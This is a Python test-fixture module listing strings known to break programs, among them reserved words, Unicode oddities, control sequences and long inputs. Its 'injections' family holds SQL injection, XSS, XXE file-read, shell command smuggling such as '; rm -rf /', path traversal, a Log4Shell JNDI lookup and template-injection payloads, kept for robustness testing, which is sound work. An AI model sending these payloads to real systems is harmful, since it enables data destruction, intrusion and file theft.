"""Texts that have broken programs before, by families; written out or built here."""

from collections.abc import Mapping, Sequence

_WORDS = (
    "undefined", "null", "NULL", "(null)", "nil", "None", "true", "false", "True", "NaN",
    "Infinity", "-1", "0", "1/0", "1E+02", "0x0", "08", "1.0", "١٢٣", "hasOwnProperty",
    "__proto__", "constructor", "CON", "PRN", "AUX", "NUL", "COM1", "LPT1", "me", "last",
    "help", "--help", "-v", "--", "-", "--no-such-flag", "=cmd", "+1", "@ann", "#1", "more",
)  # fmt: skip
_INJECTIONS = (
    "'; DROP TABLE tasks; --", "1' OR '1'='1", "\" OR \"\"=\"", "admin'--", "') --",
    "1; SELECT pg_sleep(10)", "' UNION SELECT 1,2,3 --", "%' AND '1'='1", "\\'; --",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>", "&lt;b&gt;", "<!--", "]]>", "<![CDATA[x]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "$(touch /tmp/x)", "`id`", "; rm -rf /", "| cat /etc/passwd", "&& id", "$HOME", "%PATH%",
    "() { :;}; echo x", "../../../etc/passwd", "..\\..\\win.ini", "/dev/null", "C:\\con",
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% debug %}", "{0}", "{title}", "%s%n%x",
    "%d%d%d%d", "%00", "%0d%0aX-Injected: 1", "${jndi:ldap://x.example/a}", "{{constructor}}",
    "(&(uid=*))", "*)(uid=*))(|(uid=*", "[link](javascript:alert(1))", "![](x)", "```", "***",
    "_a_ *b* ~c~", "<!channel>", "<@U123>", "@everyone", ":smile:", "http://x.example/?a=b&c=d",
    "{\"line\":\"whoami\"}", "[1,2]", "\\u0041", "\\n", "\\\\", "a\"b'c`d", "'", "\"", "“quoted”",
)  # fmt: skip
_SCRIPTS = (
    "田中さんにあげて下さい", "パーティーへ行かないか", "和製漢語", "사회과학원", "울란바토르",
    "Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "œ∑´®†¥¨ˆøπ", "ЁЂЃЄЅІЇЈЉЊ", "⁰⁴⁵₀₁₂", "ヽ༼ຈل͜ຈ༽ﾉ",
    "ثم نفس سقطت", "בְּרֵאשִׁית בָּרָא", "هَذَا نَصٌّ", "नमस्ते दुनिया", "สวัสดีชาวโลก", "᚛ᚄᚓᚐᚋ᚜", "ﷺ", "ﬀ ﬁ",
    "İstanbul ıI", "ǅ ß ẞ ŉ", "ﬃ", "Å Å Å", "é é", "𝒽ℯ𝓁𝓁ℴ", "Ｆｕｌｌ ｗｉｄｔｈ", "Ⓑⓤⓑⓑⓛⓔ",
    "pаypal", "⒯⒣⒠", "¿?¡!", "£¥€₹₿", "½⅓", "‘’“”„‟", "–—―", "…", "™©®", "№", "𠜎𠜱𠝹",
)  # fmt: skip
_EMOJI = (
    "😍", "👩🏽‍🚀", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇺🇸🇷🇺", "🇺", "👾 🙇 💁", "1️⃣2️⃣", "❤️ 💔", "🧑🏿‍🤝‍🧑🏻",
    "🐵 🙈 🙉", "☺︎", "☺️", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🫠🫡", "👍🏻👍🏿",
)  # fmt: skip
_UNSEEN = (
    "a\u200bb", "\ufeffa", "a\u2060b", "\u202eabc", "a\u202ab\u202c", "\u2066a\u2069", "a\u00adb",
    "\u200fa", "a\u180eb", "\u061ca", "x\u00a0y", "x\u3000y", "\u2800", "\u115f\u3164", "a\ufff9b",
    "a\u200d", "\u200c", "z\u034fz", "\U000e0041\U000e0042", "\ufe0f", "a\u2028b", "a\u2029b",
    "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮", "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤", "o" + "\u0301" * 200,
)  # fmt: skip
_CONTROLS = (
    "\x1b[31mred", "\x1b[2J", "\x1b]0;title\x07", "\x1b]8;;http://x.example\x1b\\x\x1b]8;;\x1b\\",
    "\x1b[?1049h", "\x9b31m", "\x1bPq\x1b\\", "\x1b]52;c;aWQ=\x07", "a\x08b", "\x7f", "\x07",
    "a\rb", "a\nb", "a\tb", "\x0b\x0c", "a\x85b", "\x00", "a\x00b", "\x01\x02", "\x1b", "\x9d0;x\x9c",
)  # fmt: skip
_LONG = (
    "a" * 200, "a" * 201, "é" * 200, "😀" * 200, "a" * 20_000, "a " * 10_000, "a" * 100_000,
    "(" * 1_000, "\"" * 99, "\\" * 150, "-" * 180, "a\n" * 500, "🏳️‍🌈" * 60, "\u0301" * 199,
)  # fmt: skip
_BLANK = ("", " ", "  ", "\t", "\n", "\r\n", "\u2003", " a ", "\ta\t", "a  b")

FAMILIES: Mapping[str, Sequence[str]] = {
    "words": _WORDS,
    "injections": _INJECTIONS,
    "scripts": _SCRIPTS,
    "emoji": _EMOJI,
    "unseen": _UNSEEN,
    "controls": _CONTROLS,
    "long": _LONG,
    "blank": _BLANK,
}
